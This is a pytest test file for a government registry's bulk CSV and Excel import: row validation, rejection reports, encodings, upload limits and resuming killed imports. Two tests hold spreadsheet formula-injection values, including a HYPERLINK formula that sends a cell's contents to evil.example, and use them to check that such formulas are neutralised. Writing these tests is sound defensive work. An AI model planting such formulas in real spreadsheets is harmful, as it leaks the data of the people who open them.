"""Bulk import: rows validated one by one, bad files refused whole, a killed import resumes exactly."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from datetime import date, timedelta
from pathlib import Path

import pytest
from helpers import assert_problem, bearer, credit_code, resident_id
from sqlalchemy import func, select
from typer.testing import CliRunner

from conftest import clone_demo_template
from tongban.cli import app as cli
from tongban.core import clock
from tongban.core.db.session import session_scope
from tongban.core.events import OutboxEvent
from tongban.registry.models import TABLES, ImportJob, ImportRejection, RecordVersion

HEADER = ["id_number", "name", "gender", "birth_date", "ethnicity", "household_address", "residence_status"]
SURNAMES = "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗"


def person_row(index: int, *, year: int = 1996) -> list[str]:
    born = date(year, 1, 1) + timedelta(days=index // 1000)
    number = resident_id(birth=born.strftime("%Y%m%d"), seq=index % 1000)
    gender = "男" if int(number[16]) % 2 else "女"
    return [number, SURNAMES[index % 20] + "测" + str(index % 7), gender, born.isoformat(), "汉族",
            f"上海市浦东新区张杨路{index % 3000}号", ("户籍", "居住证", "来沪人员")[index % 3]]


def write_csv(path: Path, rows, header=HEADER, encoding="utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as out:
        writer = csv.writer(out)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def _env(database) -> dict[str, str]:
    return {"TONGBAN_DATABASE_URL": database.settings.database_url, "TONGBAN_ARGON2_PROFILE": "CHEAPEST"}


def _import(database, path, *args, department="PD-GA", registry="persons"):
    return CliRunner().invoke(cli, ["registry", "import", registry, str(path), "--department", department, *args],
                              env=_env(database))


def _job(database) -> ImportJob:
    with database.sessionmaker()() as db:
        return db.scalar(select(ImportJob).order_by(ImportJob.started_at.desc()).limit(1))


def _imported(database, job_id: str) -> int:
    table = TABLES["persons"]
    with database.sessionmaker()() as db:
        return db.scalar(select(func.count()).select_from(table).where(table.c.import_job == job_id))


def test_rows_are_checked_one_by_one_and_rejected_with_line_and_reason(fresh_database, tmp_path):
    rows = [person_row(i) for i in range(6)]
    bad_checksum = person_row(100)
    bad_checksum[0] = bad_checksum[0][:-1] + ("0" if bad_checksum[0][-1] != "0" else "1")
    wrong_birth = person_row(101)
    wrong_birth[3] = "1990-01-01"
    bad_status = person_row(102)
    bad_status[6] = "常住"
    duplicate = person_row(2)
    duplicate[1] = "重复者"
    path = write_csv(tmp_path / "people.csv", rows[:3] + [bad_checksum, wrong_birth, duplicate, bad_status] + rows[3:])
    result = _import(fresh_database, path)
    assert result.exit_code == 0, result.output
    job = _job(fresh_database)
    assert (job.status, job.rows_accepted, job.rows_rejected) == ("completed", 6, 4)
    assert _imported(fresh_database, job.id) == 6
    report = list(csv.reader(open(str(path) + ".rejected.csv", encoding="utf-8-sig")))
    assert report[0] == ["行号", "主键", "原因", "原始内容"]
    reasons = {int(line): reason for line, _key, reason, _raw in report[1:]}
    assert set(reasons) == {5, 6, 7, 8}
    assert "校验位" in reasons[5]
    assert "出生日期 1990-01-01 与公民身份号码" in reasons[6]
    assert "与第 4 行重复" in reasons[7]
    assert "居住状态应为以下之一" in reasons[8]
    # The first occurrence stands, unchanged by its duplicate.
    with fresh_database.sessionmaker()() as db:
        table = TABLES["persons"]
        assert db.scalar(select(table.c.name).where(table.c.id_number == rows[2][0])) == rows[2][1]


def test_running_the_same_file_again_changes_nothing(fresh_database, tmp_path):
    path = write_csv(tmp_path / "again.csv", [person_row(i) for i in range(50)])
    assert _import(fresh_database, path).exit_code == 0
    with fresh_database.sessionmaker()() as db:
        versions = db.scalar(select(func.count()).select_from(RecordVersion))
        events = db.scalar(select(func.count()).select_from(OutboxEvent))
    assert _import(fresh_database, path).exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_unchanged) == (0, 50)
    with fresh_database.sessionmaker()() as db:
        assert db.scalar(select(func.count()).select_from(RecordVersion)) == versions
        assert db.scalar(select(func.count()).select_from(OutboxEvent)) == events


def test_a_later_file_changes_records_with_history(fresh_database, tmp_path):
    first = write_csv(tmp_path / "v1.csv", [person_row(i) for i in range(10)])
    assert _import(fresh_database, first).exit_code == 0
    moved = [person_row(i) for i in range(10)]
    moved[4][6] = "户籍" if moved[4][6] != "户籍" else "居住证"
    second = write_csv(tmp_path / "v2.csv", moved)
    assert _import(fresh_database, second).exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_unchanged) == (1, 9)
    with fresh_database.sessionmaker()() as db:
        history = list(db.scalars(select(RecordVersion).where(RecordVersion.record_key == moved[4][0]).order_by(RecordVersion.version)))
    assert [v.version for v in history] == [1, 2]
    assert json.loads(history[1].changed_fields) == ["residence_status"]


@pytest.mark.parametrize("header, message", [
    (HEADER + ["favourite_colour"], "未知的列：favourite_colour"),
    (["name", "gender"], "缺少主键列 id_number"),
    (HEADER + ["name"], "出现了两次"),
    (["id_number", "marital_status"], "“婚姻状况”的权威来源是浦东新区民政局"),
])
def test_bad_headers_refuse_the_whole_file(fresh_database, tmp_path, header, message):
    rows = [person_row(i)[: len(header)] + [""] * max(0, len(header) - len(HEADER)) for i in range(3)]
    path = write_csv(tmp_path / "bad-header.csv", rows, header=header)
    result = _import(fresh_database, path)
    assert result.exit_code == 2 or result.exit_code == 1
    assert message in result.output.replace("\n", "")
    assert _job(fresh_database).status == "refused"
    assert _imported(fresh_database, _job(fresh_database).id) == 0


def test_chinese_headers_are_understood(fresh_database, tmp_path):
    labels = ["公民身份号码", "姓名", "性别", "出生日期", "民族", "户籍地址", "居住状态"]
    path = write_csv(tmp_path / "中文表头.csv", [person_row(i) for i in range(5)], header=labels)
    assert _import(fresh_database, path).exit_code == 0
    assert _job(fresh_database).rows_accepted == 5


def test_a_gbk_file_is_refused_unless_declared(fresh_database, tmp_path):
    path = write_csv(tmp_path / "gbk.csv", [person_row(i) for i in range(5)], encoding="gbk")
    refused = _import(fresh_database, path)
    assert refused.exit_code == 2 or refused.exit_code == 1
    assert "GBK" in refused.output and "UTF-8" in refused.output
    assert _imported(fresh_database, _job(fresh_database).id) == 0
    accepted = _import(fresh_database, path, "--encoding", "gbk")
    assert accepted.exit_code == 0 and _job(fresh_database).rows_accepted == 5


def test_utf8_with_bom_is_fine(fresh_database, tmp_path):
    path = write_csv(tmp_path / "bom.csv", [person_row(i) for i in range(3)], encoding="utf-8-sig")
    assert _import(fresh_database, path).exit_code == 0 and _job(fresh_database).rows_accepted == 3


def test_an_empty_file_and_a_header_only_file(fresh_database, tmp_path):
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    result = _import(fresh_database, empty)
    assert result.exit_code != 0 and "文件为空" in result.output
    header_only = write_csv(tmp_path / "header.csv", [])
    result = _import(fresh_database, header_only)
    assert result.exit_code == 0 and "没有数据行" in result.output


def test_malformed_csv_stops_at_the_line_and_keeps_only_what_it_reports(fresh_database, tmp_path):
    path = tmp_path / "broken.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(HEADER)
        writer.writerows(person_row(i) for i in range(250))
        out.write('310115199601010019,"未闭合的引号,男,1996-01-01,汉族,x,户籍\n')
        writer.writerows(person_row(i) for i in range(250, 300))
    result = _import(fresh_database, path, "--batch-size", "100")
    assert result.exit_code == 1
    assert "不是合法的 CSV" in result.output
    job = _job(fresh_database)
    assert job.status == "failed" and job.rows_accepted == 200  # two full batches committed
    assert f"接受 {job.rows_accepted:,} 行" in result.output
    assert _imported(fresh_database, job.id) == job.rows_accepted


def test_a_binary_two_gigabyte_file_is_refused_at_once(fresh_database, tmp_path):
    huge = tmp_path / "huge.csv"
    with open(huge, "wb") as out:
        out.truncate(2 * 1024**3)  # sparse: two gigabytes of NUL bytes without using the disk
    result = _import(fresh_database, huge)
    assert result.exit_code != 0 and "NUL" in result.output
    assert _imported(fresh_database, _job(fresh_database).id) == 0


def test_legal_entities_and_cross_department_updates(fresh_database, tmp_path):
    header = ["credit_code", "name", "entity_type", "legal_representative_id", "legal_representative_name", "established_on",
              "industry_code", "status"]
    rows = [[credit_code(f"MA1FW00{i:02d}"), f"上海测试{i}有限公司", "有限责任公司", resident_id(seq=i), "王五", "2015-06-01",
             "I6510", "存续"] for i in range(5)]
    rows.append([credit_code("MA1FW0099")[:-1] + "0", "校验位错误公司", "有限责任公司", "", "", "", "", "存续"])
    rows.append([credit_code("MA1FW0098"), "行业代码错误公司", "有限责任公司", "", "", "", "I9910", "存续"])
    path = write_csv(tmp_path / "entities.csv", rows, header=header)
    assert _import(fresh_database, path, department="PD-SCJG", registry="legal_entities").exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_rejected) == (5, 2)
    # 税务 updates only its own column, and cannot create enterprises.
    tax = write_csv(tmp_path / "tax.csv", [[rows[0][0], "正常"], [credit_code("MA1NQPE01"), "正常"]],
                    header=["credit_code", "tax_registration_status"])
    assert _import(fresh_database, tax, department="PD-SW", registry="legal_entities").exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_rejected) == (1, 1)


def test_import_over_the_api_with_progress_and_report(fresh_database, tmp_path):
    from fastapi.testclient import TestClient

    from tongban.app import create_app

    path = write_csv(tmp_path / "api.csv", [person_row(i) for i in range(20)] + [["123", "坏行", "", "", "", "", ""]])
    with TestClient(create_app(fresh_database.settings)) as client:
        headers = bearer(client, "steward")
        response = client.post("/api/v1/registries/persons/imports", headers=headers,
                               files={"file": ("api.csv", path.read_bytes(), "text/csv")})
        assert response.status_code == 202, response.text
        job = response.json()
        for _ in range(100):
            job = client.get(f"/api/v1/registries/imports/{job['id']}", headers=headers).json()
            if job["status"] != "running":
                break
            time.sleep(0.1)
        assert (job["status"], job["rows_accepted"], job["rows_rejected"], job["progress"]) == ("completed", 20, 1, 1.0)
        uploads = fresh_database.settings.data_dir / "imports"
        for _ in range(50):  # the worker removes the upload right after finishing the job
            if not any(uploads.iterdir()):
                break
            time.sleep(0.05)
        assert list(uploads.iterdir()) == []  # a completed import does not keep the upload
        report = client.get(f"/api/v1/registries/imports/{job['id']}/rejected.csv", headers=headers)
        assert "公民身份号码应为 18 位" in report.text and ",22," not in report.text and report.text.count("\n") == 2
        # Another department cannot see the job; a clerk cannot import.
        assert_problem(client.get(f"/api/v1/registries/imports/{job['id']}", headers=bearer(client, "steward.mz")),
                       403, "department-scope")
        assert_problem(client.post("/api/v1/registries/persons/imports", headers=bearer(client, "clerk"),
                                   files={"file": ("x.csv", b"id_number\n", "text/csv")}), 403, "permission-denied")


def test_an_xlsx_file(fresh_database, tmp_path):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["公民身份号码", "姓名", "出生日期", "居住状态"])
    for i in range(8):
        row = person_row(i)
        sheet.append([row[0], row[1], date.fromisoformat(row[3]), row[6]])  # a real date cell
    workbook.save(tmp_path / "people.xlsx")
    assert _import(fresh_database, tmp_path / "people.xlsx").exit_code == 0
    assert _job(fresh_database).rows_accepted == 8
    broken = tmp_path / "missing.xlsx"
    workbook = Workbook()
    workbook.active.append(["姓名", "出生日期"])
    workbook.save(broken)
    result = _import(fresh_database, broken)
    assert result.exit_code != 0 and "缺少主键列" in result.output


def test_a_formula_cell_rejects_its_row_naming_the_cell(fresh_database, tmp_path):
    """A formula's value is not what the department entered (and without a cached result it read
    as an empty cell, silently): the row is rejected with the cell and the reason."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["公民身份号码", "姓名", "出生日期", "居住状态"])
    rows = [person_row(100 + i) for i in range(3)]
    for row in rows:
        sheet.append([row[0], row[1], date.fromisoformat(row[3]), row[6]])
    sheet["B3"] = '=HYPERLINK("https://evil.example/","点我")'  # the second person's name
    sheet["D4"] = '=IF(1,"户籍","居住证")'  # the third person's residence status
    workbook.save(tmp_path / "formulas.xlsx")
    assert _import(fresh_database, tmp_path / "formulas.xlsx").exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_rejected) == (1, 2)
    with fresh_database.sessionmaker()() as db:
        rejections = {r.line: r for r in db.scalars(select(ImportRejection).where(ImportRejection.job_id == job.id))}
        table = TABLES["persons"]
        imported = set(db.scalars(select(table.c.id_number).where(table.c.import_job == job.id)))
    assert set(rejections) == {3, 4} and imported == {rows[0][0]}
    assert "B3（姓名）" in rejections[3].reason and "公式" in rejections[3].reason
    assert rejections[3].record_key == rows[1][0]
    assert "D4（居住状态）" in rejections[4].reason


def test_the_rejected_rows_report_carries_no_formula(fresh_database, tmp_path):
    """Whatever a rejected row held comes back as text: a spreadsheet opening the report runs nothing."""
    evil = '=HYPERLINK("https://evil.example/?x="&A1,"点我")'
    path = write_csv(tmp_path / "evil.csv", [person_row(0), [evil, "+坏行", "", "", "", "", ""],
                                             ["@SUM(1)", "-坏行", "", "", "", "", ""]])
    assert _import(fresh_database, path, "--rejected", str(tmp_path / "report.csv")).exit_code == 0
    job = _job(fresh_database)
    assert job.rows_rejected == 2
    from tongban.registry import importer

    with fresh_database.sessionmaker()() as db:
        report = "".join(importer.rejected_csv(db, job.id)).lstrip("\ufeff")
    rows = list(csv.reader(report.splitlines()))
    assert rows[0] == ["行号", "主键", "原因", "原始内容"] and len(rows) == 3
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert rows[1][1] == "'" + evil and rows[1][3].startswith("'" + evil)
    assert rows[2][1] == "'@SUM(1)" and rows[1][0] == "3"  # line numbers stay numbers
    written = list(csv.reader((tmp_path / "report.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert written == rows  # the command line writes the same report


def test_uploads_over_the_limit_are_refused_before_reading(fresh_database):
    from fastapi.testclient import TestClient

    from tongban.app import create_app

    settings = fresh_database.settings.model_copy(update={"import_max_upload_mb": 1})
    with TestClient(create_app(settings)) as client:
        headers = bearer(client, "steward")
        big = b"id_number\n" + b"310115199601010019\n" * 70_000
        response = client.post("/api/v1/registries/persons/imports", headers=headers,
                               files={"file": ("big.csv", big, "text/csv")})
        assert "1 MB" in assert_problem(response, 413, "payload-too-large")["detail"]
        huge_json = client.post("/api/v1/accounts/citizens", content=b'{"name": "' + b"x" * 3_000_000 + b'"}',
                                headers={"Content-Type": "application/json"})
        assert_problem(huge_json, 413, "payload-too-large")


# --- killed mid-import: re-run ends exactly as one clean run --------------------------------

def _kill_test_file(path: Path, count: int) -> Path:
    rows = []
    for i in range(count):
        row = person_row(i, year=1997)
        if i % 997 == 5:
            row[0] = row[0][:-1] + ("0" if row[0][-1] != "0" else "1")  # bad check digit
        if i % 1009 == 7 and i > 10:
            row = person_row(i - 5, year=1997)  # a duplicate key
            row[1] = "重复者"
        rows.append(row)
    return write_csv(path, rows)


def _snapshot(database) -> dict:
    """Everything an import writes that must not depend on how many runs it took."""
    table = TABLES["persons"]
    data_columns = [c for c in table.c if c.name not in ("updated_at", "import_job", "import_line")]
    with database.sessionmaker()() as db:
        people = [tuple(r) for r in db.execute(select(*data_columns).order_by(table.c.id_number))]
        versions = [tuple(r) for r in db.execute(select(RecordVersion.record_key, RecordVersion.version, RecordVersion.data,
                                                        RecordVersion.changed_fields).order_by(RecordVersion.record_key,
                                                                                               RecordVersion.version))]
        events = [(r.record_key, r.event_type, json.loads(r.payload)["version"])
                  for r in db.scalars(select(OutboxEvent).where(OutboxEvent.subject == "registry.persons")
                                      .order_by(OutboxEvent.record_key, OutboxEvent.id))]
        rejections = [tuple(r) for r in db.execute(select(ImportRejection.line, ImportRejection.reason).order_by(ImportRejection.line))]
    return {"people": people, "versions": versions, "events": events, "rejections": rejections}


def _run_cli(database, path: Path) -> subprocess.Popen:
    env = {**os.environ, **_env(database), "TONGBAN_LOG_LEVEL": "WARNING"}
    return subprocess.Popen([sys.executable, "-m", "tongban.cli", "registry", "import", "persons", str(path),
                             "--department", "PD-GA", "--batch-size", "500"], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def test_a_killed_import_run_again_equals_one_clean_run(fresh_database, demo_template, tmp_path):
    path = _kill_test_file(tmp_path / "kill.csv", 30_000)
    killed_at = []
    for threshold in (3_000, 14_000):  # kill it twice, at two different moments
        process = _run_cli(fresh_database, path)
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            job = _job(fresh_database)
            if job is not None and job.committed_line >= threshold:
                break
            time.sleep(0.02)
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        killed_at.append(_job(fresh_database).committed_line)
    assert killed_at[0] < killed_at[1] < 30_001, killed_at  # really killed midway, and resumed
    finished = _run_cli(fresh_database, path)
    assert finished.wait(timeout=300) == 0
    assert _job(fresh_database).status == "completed"

    (tmp_path / "clean").mkdir()
    clean, cleanup = clone_demo_template(demo_template, tmp_path / "clean")
    try:
        assert _run_cli(clean, path).wait(timeout=300) == 0
        resumed, reference = _snapshot(fresh_database), _snapshot(clean)
        assert len(reference["people"]) > 29_000 and reference["rejections"]
        for part in ("people", "versions", "events", "rejections"):
            assert resumed[part] == reference[part], part
    finally:
        cleanup()


def test_the_parsing_process_path_gives_the_same_result(fresh_database, tmp_path, monkeypatch):
    """Big files are parsed in a second process; force that path for a small file."""
    from tongban.registry import importer

    monkeypatch.setattr(importer, "PARALLEL_FROM_BYTES", 0)
    rows = [person_row(i, year=1998) for i in range(1200)]
    rows[700][0] = rows[700][0][:-1] + ("0" if rows[700][0][-1] != "0" else "1")
    rows[900] = list(rows[100])
    path = write_csv(tmp_path / "worker.csv", rows)
    assert _import(fresh_database, path, "--batch-size", "250").exit_code == 0
    job = _job(fresh_database)
    assert (job.status, job.rows_accepted, job.rows_rejected) == ("completed", 1198, 2)
    assert _imported(fresh_database, job.id) == 1198
    # Rows of existing records are parsed again from their cells in the importer: changes and
    # unchanged rows come out as in the single-process path.
    renamed = [list(row) for row in rows]
    for row in renamed[:5]:
        row[1] = "改名" + row[1]
    assert _import(fresh_database, write_csv(tmp_path / "worker-again.csv", renamed), "--batch-size", "250").exit_code == 0
    job = _job(fresh_database)
    assert (job.rows_accepted, job.rows_unchanged, job.rows_rejected) == (5, 1193, 2)
    table = TABLES["persons"]
    with fresh_database.sessionmaker()() as db:
        record = db.execute(select(table).where(table.c.id_number == rows[0][0])).mappings().one()
        assert (record["name"], record["version"], record["birth_date"]) == ("改名" + rows[0][1], 2, date(1998, 1, 1))
    # A broken line in the middle stops the parsing process; the importer reports where.
    broken = tmp_path / "worker-broken.csv"
    with open(broken, "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(HEADER)
        writer.writerows(person_row(i, year=1999) for i in range(600))
        out.write('310115199901010019,"未闭合,男\n')
        writer.writerows(person_row(i, year=1999) for i in range(600, 700))
    result = _import(fresh_database, broken, "--batch-size", "250")
    assert result.exit_code == 1 and "不是合法的 CSV" in result.output
    job = _job(fresh_database)
    assert job.status == "failed" and job.rows_accepted == 500 == _imported(fresh_database, job.id)


def test_the_import_page_uploads_and_shows_an_interrupted_job_in_chinese(fresh_database, tmp_path):
    """A job a dead process left running (its lock file free) is shown as interrupted after a start-up."""
    import re
    import uuid as uuid_module

    from fastapi.testclient import TestClient

    from tongban import demo
    from tongban.app import create_app

    cut = str(uuid_module.uuid4())
    with session_scope(fresh_database.sessionmaker()) as db:
        db.add(ImportJob(id=cut, registry_name="persons", source_department="PD-GA", actor_name="公安分局数据管理员",
                         file_name="断电前.csv", file_sha256="0" * 64, file_size=1000, status="running",
                         committed_line=400, rows_accepted=399, rows_unchanged=0, rows_rejected=0, bytes_read=500,
                         started_at=clock.now()))
    uploads = fresh_database.settings.data_dir / "imports"
    uploads.mkdir(parents=True, exist_ok=True)
    (uploads / f"{cut}.lock").touch()  # left by the dead worker; nobody holds it
    path = write_csv(tmp_path / "页面导入.csv", [person_row(i, year=1999) for i in range(5)])
    with TestClient(create_app(fresh_database.settings)) as client:
        login = client.get("/login").text
        token = re.search(r'name="csrf_token" value="([^"]+)"', login).group(1)
        client.post("/login", data={"username": "steward", "password": demo.DEMO_PASSWORD, "csrf_token": token})
        assert "/staff/registry/imports" in client.get("/staff").text
        page = client.get("/staff/registry/imports")
        assert page.status_code == 200 and "已中断（重新上传同一文件可续传）" in page.text and "断电前.csv" in page.text
        assert "已提交至文件第 400 行" in page.text
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        sent = client.post("/staff/registry/imports", data={"registry": "persons", "csrf_token": token},
                           files={"file": ("页面导入.csv", path.read_bytes(), "text/csv")}, follow_redirects=False)
        assert sent.status_code == 303, sent.text
        for _ in range(100):
            page = client.get("/staff/registry/imports").text
            if "已完成" in page:
                break
            time.sleep(0.05)  # the import's own thread
        assert "页面导入.csv" in page and "已完成" in page and "5 / 0 / 0" in page
        refused = client.post("/staff/registry/imports", data={"registry": "persons", "csrf_token": token},
                              files={"file": ("空.csv", b"", "text/csv")})
        assert refused.status_code == 422 and "文件为空" in refused.text
    with TestClient(create_app(fresh_database.settings)) as other:  # no page session: a bearer token alone
        assert other.get("/staff/registry/imports", headers=bearer(other, "clerk")).status_code == 403
